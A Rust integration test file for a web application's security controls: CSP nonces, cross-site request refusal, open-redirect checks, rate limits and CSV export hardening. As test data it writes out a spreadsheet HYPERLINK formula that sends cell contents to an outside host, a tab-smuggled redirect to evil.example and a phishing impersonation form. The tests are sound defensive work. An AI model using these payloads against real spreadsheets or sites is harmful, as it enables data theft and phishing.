//! Security layers through the real router, on SQLite and PostgreSQL: headers on every
//! response, a fresh script nonce per page, cross-site unsafe requests refused, and the
//! hardening of issue #14 (redirect targets, spreadsheet formulas in CSV files, no-store
//! on private answers, password change attempts, the help text, the audit log's filters).
//! `docs/SECURITY.md` maps each control to its test.
#![expect(clippy::unwrap_used, clippy::expect_used, reason = "tests fail loudly")]

mod common;

use axum::{
    body::Body,
    http::{Request, StatusCode, header},
};
use common::{TestApp, text};

fn csp(response: &axum::response::Response) -> String {
    response.headers()[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .to_string()
}

fn nonce_of(policy: &str) -> String {
    let start = policy.find("'nonce-").expect("a nonce in script-src") + "'nonce-".len();
    policy[start..].split('\'').next().unwrap().to_string()
}

on_both_databases! {
    async fn pages_allow_only_their_own_scripts_with_a_fresh_nonce_each_time(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        let first = app.get("/", &[]).await;
        let policy = csp(&first);
        let html = text(first).await;
        let second_policy = csp(&app.get("/", &[]).await);

        let script_src = policy.split(';').find(|d| d.trim().starts_with("script-src")).unwrap();
        assert!(!script_src.contains("unsafe-inline"), "{script_src}");
        for directive in ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"] {
            assert!(policy.contains(directive), "{directive} in {policy}");
        }
        let nonce = nonce_of(&policy);
        assert!(nonce.len() >= 16, "an unguessable nonce: {nonce}");
        assert!(html.contains(&format!("nonce=\"{nonce}\"")), "the page's scripts carry the nonce");
        assert_ne!(nonce, nonce_of(&second_policy), "a fresh nonce per response");
    }
}

on_both_databases! {
    async fn every_response_carries_the_security_headers(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        for path in ["/", "/healthz", "/nope", "/connexion", "/espace"] {
            let response = app.get(path, &[]).await;
            let headers = response.headers();
            assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{path}");
            assert!(headers.contains_key(header::REFERRER_POLICY), "{path}");
            assert!(csp(&response).contains("frame-ancestors 'none'"), "{path}");
            assert!(!headers.contains_key(header::STRICT_TRANSPORT_SECURITY), "no HSTS over plain HTTP");
        }
    }
}

on_both_databases! {
    async fn unsafe_requests_from_another_site_are_refused_before_they_run(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        let form = |extra: &[(&'static str, &'static str)]| {
            let mut request = Request::post("/langue").header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
            for (name, value) in extra {
                request = request.header(*name, *value);
            }
            request.body(Body::from("lang=en&next=%2F")).unwrap()
        };

        let refused = app.send(form(&[("sec-fetch-site", "cross-site"), ("host", "ccmex.test")])).await;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);
        assert!(!refused.headers().contains_key(header::SET_COOKIE), "nothing ran");

        let refused = app.send(form(&[("origin", "https://evil.example"), ("host", "ccmex.test")])).await;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);

        let server_fn = Request::post("/api/home")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header("sec-fetch-site", "cross-site")
            .body(Body::from("lang=En"))
            .unwrap();
        assert_eq!(app.send(server_fn).await.status(), StatusCode::FORBIDDEN);

        let same_site = app.send(form(&[("sec-fetch-site", "same-origin"), ("origin", "http://ccmex.test"), ("host", "ccmex.test")])).await;
        assert_eq!(same_site.status(), StatusCode::SEE_OTHER, "our own forms keep working");

        let read = app.get("/", &[("sec-fetch-site", "cross-site")]).await;
        assert_eq!(read.status(), StatusCode::OK, "links from other sites still open pages");
    }
}

on_both_databases! {
    async fn over_https_browsers_are_told_to_stay_on_https_and_cookies_are_secure(backend: Backend) {
        let app = TestApp::seeded_over_https(backend).await;
        let page = app.get("/", &[]).await;
        let hsts = page.headers()[header::STRICT_TRANSPORT_SECURITY].to_str().unwrap();
        assert!(hsts.contains("max-age="), "{hsts}");

        let response = app.post_form("/langue", "lang=en&next=%2F").await;
        let cookie = response.headers()[header::SET_COOKIE].to_str().unwrap();
        assert!(cookie.contains("; Secure"), "{cookie}");
    }
}

on_both_databases! {
    async fn a_form_page_rendered_again_after_an_error_keeps_its_script_policy(backend: Backend) {
        let app = TestApp::seeded(backend).await;

        let response = app.post_form("/connexion", "email=nobody%40example.ml&password=whatever+it+is").await;

        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
        let policy = csp(&response);
        let nonce = nonce_of(&policy);
        assert_eq!(response.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
        assert!(text(response).await.contains(&format!("nonce=\"{nonce}\"")));
    }
}

on_both_databases! {
    async fn a_sign_in_link_whose_next_page_hides_a_tab_before_another_host_lands_on_a_local_page(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        app.create_user("awa@example.ml", "Awa Diallo", common::Role::Reviewer).await;
        let page = app.get("/connexion?suivant=%2F%09%2Fevil.example", &[]).await;
        assert_eq!(page.status(), StatusCode::OK);

        // The form posts back the `suivant` it was given: `/`, TAB, `/evil.example`.
        let body = serde_urlencoded::to_string([
            ("email", "awa@example.ml"),
            ("password", common::PASSWORD),
            ("suivant", "/\t/evil.example"),
        ])
        .unwrap();
        let response = app.post_form("/connexion?suivant=%2F%09%2Fevil.example", body).await;

        assert_eq!(response.status(), StatusCode::SEE_OTHER, "signed in");
        assert_eq!(response.headers()[header::LOCATION], "/espace", "a local page, not //evil.example");

        let language = app.post_form("/langue", "lang=en&next=%2F%09%2Fevil.example").await;
        assert_eq!(language.status(), StatusCode::SEE_OTHER);
        assert_eq!(language.headers()[header::LOCATION], "/");
    }
}

/// What makes a spreadsheet run a cell as a formula (OWASP).
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every cell of a CSV text.
fn csv_cells(body: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

on_both_databases! {
    async fn cells_typed_as_spreadsheet_formulas_come_out_as_text_in_every_csv_file(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        app.create_user("relecteur@example.ml", "Relecteur Diallo", common::Role::Reviewer).await;
        let cookie = app.sign_in("relecteur@example.ml").await;
        for (i, trigger) in FORMULA_TRIGGERS.iter().enumerate() {
            let hostile = format!("{trigger}HYPERLINK(\"https://x.example/?\"&M2,\"INJ{i}\")");
            app.add_concern("education", "FR", &hostile, "published").await;
            app.add_figure("FR", 1000 + i as i64, "official_estimate", &hostile, (2024, 6, 1 + i as u32)).await;
            app.add_organisation_request(&hostile, &hostile, app::participation::RequestStatus::Approved).await;
            app.add_published_recommendation(100 + i as i32, &hostile).await;
        }

        for (path, cookie) in [
            ("/espace/demandes/export.csv", Some(cookie.as_str())),
            ("/api/v1/concerns.csv", None),
            ("/api/v1/organisations.csv", None),
            ("/api/v1/diaspora.csv", None),
            ("/api/v1/recommendations.csv", None),
        ] {
            let headers: Vec<(&str, &str)> = cookie.map(|c| ("cookie", c)).into_iter().collect();
            let response = app.get(path, &headers).await;
            assert_eq!(response.status(), StatusCode::OK, "{path}");
            let cells = csv_cells(&text(response).await);
            for (i, trigger) in FORMULA_TRIGGERS.iter().enumerate() {
                let marker = format!("INJ{i}\"");
                let hostile: Vec<&String> = cells.iter().filter(|c| c.contains(&marker)).collect();
                assert!(!hostile.is_empty(), "{path} carries the cell starting with {trigger:?}");
                for cell in hostile {
                    assert!(cell.starts_with(&format!("'{trigger}")), "{path}: {cell:?} is neutralised");
                }
            }
            assert!(
                cells.iter().all(|c| !c.starts_with(FORMULA_TRIGGERS)),
                "{path}: no cell starts a formula"
            );
        }
    }
}

/// The local links (`href="/…"`) of a page, entities decoded.
fn local_links(html: &str) -> Vec<String> {
    html.split("href=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .filter(|href| href.starts_with('/') && !href.starts_with("//"))
        .map(|href| href.replace("&amp;", "&"))
        .collect()
}

fn assert_no_store(response: &axum::response::Response, what: &str) {
    let value = response
        .headers()
        .get(header::CACHE_CONTROL)
        .map(|v| v.to_str().unwrap());
    assert_eq!(value, Some("no-store"), "{what} ({})", response.status());
}

on_both_databases! {
    async fn no_browser_or_proxy_keeps_a_copy_of_a_page_or_answer_with_personal_data(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        app.create_user("admin@example.ml", "Admin Keita", common::Role::Admin).await;
        let (_, request) = app.add_organisation_request("Association Kayes", "Awa Contact", app::participation::RequestStatus::Submitted).await;
        let cookie = app.sign_in("admin@example.ml").await;

        // Every workspace page an administrator can reach by following links from /espace.
        let mut queue = vec!["/espace".to_string(), format!("/espace/demandes/{request}"), "/espace/demandes/export.csv".into()];
        let mut seen = std::collections::BTreeSet::new();
        while let Some(path) = queue.pop() {
            if !seen.insert(path.clone()) || seen.len() > 80 {
                continue;
            }
            let response = app.get(&path, &[("cookie", &cookie)]).await;
            assert_no_store(&response, &path);
            let html = text(response).await;
            queue.extend(local_links(&html).into_iter().filter(|l| l == "/espace" || l.starts_with("/espace/") || l.starts_with("/espace?")));
        }
        assert!(seen.len() >= 12, "the crawl reached the workspace: {seen:?}");

        for path in ["/connexion", "/connexion?suivant=%2Fespace", "/participer/suivi", "/participer/suivi/CCMEX-C001-TEST", "/participer/confirmation"] {
            assert_no_store(&app.get(path, &[]).await, path);
        }
        let refused_sign_in = app.post_form("/connexion", "email=admin%40example.ml&password=wrong+password+here").await;
        assert_no_store(&refused_sign_in, "a refused sign-in");
        for endpoint in ["/api/me", "/api/audit-log", "/api/users", "/api/participation-review", "/api/outbox", "/api/participation-status"] {
            let request = Request::post(endpoint)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .header("cookie", &cookie)
                .body(Body::empty())
                .unwrap();
            assert_no_store(&app.send(request).await, endpoint);
        }

        let public = app.get("/api/v1/concerns.json", &[]).await;
        assert_eq!(public.headers()[header::CACHE_CONTROL], "public, max-age=300", "open data stays cacheable");
    }
}

on_both_databases! {
    async fn a_stolen_session_cannot_guess_the_current_password_through_the_password_change_form(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        app.create_user("awa@example.ml", "Awa Diallo", common::Role::Reviewer).await;
        app.create_user("moussa@example.ml", "Moussa Traoré", common::Role::Reviewer).await;
        let cookie = app.sign_in("awa@example.ml").await;
        let other = app.sign_in("moussa@example.ml").await;
        let change = |current: &str| {
            serde_urlencoded::to_string([
                ("current_password", current),
                ("new_password", "un mot de passe tout neuf"),
                ("confirm_password", "un mot de passe tout neuf"),
            ])
            .unwrap()
        };

        for guess in 0..server::rate_limit::PASSWORD_CHANGES_PER_HOUR {
            let response = app.send(common::form_request("/espace/mot-de-passe", &change(&format!("guess number {guess}")), Some(&cookie))).await;
            assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "guess {guess} is checked");
        }
        let right = app.send(common::form_request("/espace/mot-de-passe", &change(common::PASSWORD), Some(&cookie))).await;

        assert_eq!(right.status(), StatusCode::TOO_MANY_REQUESTS, "even the right password waits");
        assert!(text(right).await.contains("Trop de tentatives"), "a translated message");
        let other_account = app.send(common::form_request("/espace/mot-de-passe", &change(common::PASSWORD), Some(&other))).await;
        assert_eq!(other_account.status(), StatusCode::SEE_OTHER, "each account has its own counter");
    }
}

#[test]
fn the_help_text_never_shows_the_database_password_from_the_environment() {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_server"))
        .arg("--help")
        .env(
            "DATABASE_URL",
            "postgres://ccmex:s3cret-pw@db.internal:5432/ccmex",
        )
        .env(
            "CCMEX_SMTP_URL",
            "smtp://mail:smtp-s3cret@mail.internal:587",
        )
        .output()
        .unwrap();
    let help = String::from_utf8_lossy(&output.stdout);

    assert!(output.status.success(), "{help}");
    assert!(
        help.contains("DATABASE_URL"),
        "the variable is still named: {help}"
    );
    assert!(!help.contains("s3cret"), "{help}");
}

on_both_databases! {
    async fn an_audit_log_page_number_out_of_range_shows_a_page_instead_of_failing(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        app.create_user("admin@example.ml", "Admin Keita", common::Role::Admin).await;
        let cookie = app.sign_in("admin@example.ml").await;

        for page in ["18446744073709551615", "99999999999999999999999", "-1", "0", "abc", "400"] {
            let response = app.get(&format!("/espace/journal?page={page}"), &[("cookie", &cookie)]).await;
            assert_eq!(response.status(), StatusCode::OK, "page={page}");
        }
        let filter = app::audit::AuditFilter { page: u64::MAX, ..Default::default() };
        let last = app::audit::service::list(&app.db, &filter).await.unwrap();
        assert_eq!(last.page, last.pages, "past the end is the last page");
        assert!(!last.entries.is_empty());
    }
}

on_both_databases! {
    async fn like_wildcards_in_the_audit_actor_filter_match_only_themselves(backend: Backend) {
        let app = TestApp::seeded(backend).await;
        app.create_user("admin@example.ml", "Admin Keita", common::Role::Admin).await;
        app.create_user("awa@example.ml", "Awa Diallo", common::Role::Reviewer).await;
        let cookie = app.sign_in("admin@example.ml").await;
        // An entry written by the administrator, so their name is in the log.
        let body = serde_urlencoded::to_string([("email", "moussa@example.ml"), ("name", "Moussa Traoré"), ("password", "un mot de passe tout neuf"), ("reviewer", "on")]).unwrap();
        let created = app.send(common::form_request("/espace/utilisateurs", &body, Some(&cookie))).await;
        assert_eq!(created.status(), StatusCode::SEE_OTHER, "account created");
        let list = |actor: &str| app::audit::AuditFilter { actor: Some(actor.into()), page: 1, ..Default::default() };

        let all = app::audit::service::list(&app.db, &app::audit::AuditFilter::default()).await.unwrap().total;
        let by_admin = app::audit::service::list(&app.db, &list("Admin Keita")).await.unwrap().total;
        assert!(all > by_admin && by_admin > 0, "{all} entries, {by_admin} by the administrator");

        for wildcard in ["%", "_", "%%", "Admin_Keita", "Adm%", "\\"] {
            let found = app::audit::service::list(&app.db, &list(wildcard)).await.unwrap().total;
            assert_eq!(found, 0, "{wildcard:?} matches no actor name");
        }
    }
}

/// The directory page's content (not its per-response nonces), its JSON and its CSV.
async fn public_directory(app: &TestApp) -> [String; 3] {
    let page = text(app.get("/organisations", &[]).await).await;
    let main = page
        .split("<main")
        .nth(1)
        .unwrap()
        .split("</main>")
        .next()
        .unwrap()
        .to_string();
    let json = text(app.get("/api/v1/organisations.json", &[]).await).await;
    let csv = text(app.get("/api/v1/organisations.csv", &[]).await).await;
    [main, json, csv]
}

on_both_databases! {
    async fn an_anonymous_application_cannot_rewrite_a_listed_organisations_public_record_before_approval(backend: Backend) {
        use app::entities::{audit_log, organisation, participation_request};
        use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
        let app = TestApp::seeded(backend).await;
        let listed = "Amicale des Maliens de Lyon";
        let (organisation_id, _) = app.add_organisation_request(listed, "Awa Contact", app::participation::RequestStatus::Approved).await;
        let original = organisation::Entity::find_by_id(organisation_id).one(&app.db).await.unwrap().unwrap();
        let original_website = original.website.clone().unwrap();
        app.open_new_session(2).await;
        let before = public_directory(&app).await;
        assert!(before.iter().all(|view| view.contains(&original_website) && view.contains(listed)));

        // Anyone may apply in the organisation's name: another spelling, a phishing link, no consent.
        let attack = serde_urlencoded::to_string([
            ("idempotency_key", "attack"), ("website_url", ""),
            ("name", "AMICALE des maliens de LYON"), ("kind", "association"), ("country", "FR"),
            ("city", "Villeurbanne"), ("sector_health", "on"), ("website", "https://phishing.example"),
            ("contact_name", "Faux Contact"), ("contact_email", "faux@evil.example"), ("contact_phone", "+33 6 12 34 56 78"),
            ("delegate_name_1", "Faux Délégué"), ("delegate_function_1", "Président"), ("delegate_email_1", "d@evil.example"),
            ("motivation", "Une motivation assez longue pour passer la validation du formulaire."),
            ("contribution", "Une contribution assez longue pour passer la validation du formulaire."),
            ("consent_processing", "on"),
        ]).unwrap();
        let applied = app.send(common::form_request("/participer", &attack, None)).await;
        assert_eq!(applied.status(), StatusCode::SEE_OTHER, "the application is received");

        let stored = organisation::Entity::find_by_id(organisation_id).one(&app.db).await.unwrap().unwrap();
        assert_eq!(stored, original, "the public record is untouched");
        assert_eq!(public_directory(&app).await, before, "directory, JSON and CSV unchanged");
        let request = participation_request::Entity::find().order_by_desc(participation_request::Column::Id).one(&app.db).await.unwrap().unwrap();
        assert_eq!(request.organisation_id, organisation_id, "the request belongs to the organisation");

        // A committee approves the request: now, and only now, the record changes, audited.
        app.create_user("relecteur@example.ml", "Relecteur Diallo", common::Role::Reviewer).await;
        let cookie = app.sign_in("relecteur@example.ml").await;
        let decided = app.send(common::form_request(&format!("/espace/demandes/{}/decision", request.id), "transition=approve&message=", Some(&cookie))).await;
        assert_eq!(decided.status(), StatusCode::SEE_OTHER);

        let approved = organisation::Entity::find_by_id(organisation_id).one(&app.db).await.unwrap().unwrap();
        assert_eq!(
            (approved.name.as_str(), approved.city.as_str(), approved.website.as_deref(), approved.publish_consent),
            ("AMICALE des maliens de LYON", "Villeurbanne", Some("https://phishing.example"), false)
        );
        let entry = audit_log::Entity::find()
            .filter(audit_log::Column::EntityType.eq("organisation"))
            .filter(audit_log::Column::EntityId.eq(organisation_id.to_string()))
            .one(&app.db).await.unwrap().expect("the change is audited");
        assert_eq!(entry.actor_label, "Relecteur Diallo");
        let (was, now): (serde_json::Value, serde_json::Value) = (serde_json::from_str(entry.before.as_deref().unwrap()).unwrap(), serde_json::from_str(entry.after.as_deref().unwrap()).unwrap());
        assert_eq!((was["website"].as_str(), was["publish_consent"].as_bool()), (Some(original_website.as_str()), Some(true)));
        assert_eq!((now["website"].as_str(), now["publish_consent"].as_bool()), (Some("https://phishing.example"), Some(false)));
        assert!(public_directory(&app).await.iter().all(|view| !view.contains(listed)), "consent withdrawn by the approved request");
    }
}
